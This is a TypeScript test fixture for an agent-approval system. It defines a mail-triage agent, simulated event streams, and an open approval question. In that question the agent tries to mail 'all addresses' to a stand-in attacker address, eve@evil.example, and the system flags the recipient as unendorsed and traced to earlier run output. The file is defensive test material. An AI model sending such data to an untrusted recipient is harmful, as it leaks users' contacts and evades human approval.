import type { AgentRecord, Json, QuestionView } from '@countersign/contract';

/** An agent as the server gives it. */
export const agent: AgentRecord = {
  id: 'agt_1',
  workspace: 'ws_1',
  draft: {
    name: 'Mail triage',
    description: 'Reads mail.',
    instructions: '',
    model: { connection: 'con_model', name: 'm', maxOutputTokens: 10 },
    tools: [
      { action: 'mail.list', connection: 'con_mail' },
      { action: 'mail.read', connection: 'con_mail' },
      { action: 'mail.send', connection: 'con_smtp' },
    ],
    opening: '',
    suggestions: ['Triage the mailbox.'],
    limits: {},
    questionTtlMs: 1000,
  },
  revision: 1,
  publishedVersion: 1,
  updatedAt: 0,
};

/** An open question about a mail to a stranger. */
export const question: QuestionView = {
  id: 'qst_1',
  workspace: 'ws_1',
  run: 'run_1',
  call: 'run_1.3',
  callHash: 'a'.repeat(64),
  kind: 'call',
  action: 'mail.send',
  effect: 'send',
  sentence: 'Send a mail to “eve@evil.example”',
  args: { to: ['eve@evil.example'], subject: 'hi', text: 'all addresses' },
  missing: [
    {
      pointer: '/to/0',
      value: 'eve@evil.example',
      sink: 'dest',
      because: 'unendorsed',
      origin: ['run_1.2#/text'],
    },
  ],
  askedAt: 0,
  expiresAt: 1_000_000 + 3_600_000,
  requestedBy: 'usr_1',
  status: 'open',
  answeredBy: null,
  answeredAt: null,
  answer: null,
  barred: null,
};

/** A value as it comes over the wire. */
export function wire(value: unknown): Json {
  return JSON.parse(JSON.stringify(value)) as Json;
}

/** A stream of a run: entries by kind, ref and payload; texts are words of the model. */
export function stream(
  ...steps: (string | readonly [kind: string, call: string | null, ref: Json, payload: Json])[]
): Response {
  const frames = steps.map((step, index) => {
    if (typeof step === 'string') {
      return `event: delta\ndata: ${JSON.stringify({ kind: 'text', text: step })}\n\n`;
    }
    const [kind, call, ref, payload] = step;
    const entry = { index, kind, call, time: 0, ref, payload, erased: false };
    return `id: ${index}\nevent: entry\ndata: ${JSON.stringify(entry)}\n\n`;
  });
  return new Response(`${frames.join('')}event: end\ndata: {}\n\n`);
}
